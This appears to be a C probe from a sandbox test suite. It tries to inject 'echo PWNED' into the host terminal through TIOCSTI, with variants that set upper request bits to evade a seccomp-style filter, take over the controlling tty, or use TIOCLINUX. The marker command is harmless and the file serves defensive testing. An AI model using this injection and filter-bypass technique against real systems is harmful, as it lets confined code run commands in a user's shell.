/* tiocsti MODE: push "echo PWNED" into the input of the terminal on fd 0, so
 * that the host's shell runs it after the job.
 * plain: TIOCSTI as is.
 * wide: TIOCSTI with junk in the upper 32 bits of the request, which the
 *   kernel ignores but a 64-bit filter comparison sees.
 * steal: first take the terminal as controlling tty (TIOCSCTTY: the job
 *   leads a session of its own, and a pty that nobody controls can be
 *   taken; TIOCSTI works only on one's controlling tty), then as wide.
 * linux: TIOCLINUX, the same injection on a virtual console. */
#include "attack.h"
#include <sys/ioctl.h>
#include "../progs/hostile.h"

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "plain";
	const char *cmd = "echo PWNED\n";
	unsigned long op = TIOCSTI;
	long rc = 0;

	if (!strcmp(mode, "linux")) {
		char paste = 3;      /* TIOCL_PASTESEL */
		rc = syscall(SYS_ioctl, 0, TIOCLINUX, &paste);
		printf("reached: TIOCLINUX returned %ld (%s)\n", rc, strerrorname_np(errno));
		return 0;
	}
	if (!strcmp(mode, "steal"))
		printf("TIOCSCTTY: %s\n", ioctl(0, TIOCSCTTY, 0) ? strerrorname_np(errno) : "taken");
	if (!strcmp(mode, "wide") || !strcmp(mode, "steal"))
		op |= 0xffffffff00000000UL;
	for (const char *p = cmd; *p && rc == 0; p++)
		rc = syscall(SYS_ioctl, 0, op, p);
	printf("reached: TIOCSTI (%#lx) returned %ld (%s)\n", op, rc, rc ? strerrorname_np(errno) : "injected");
	return 0;
}
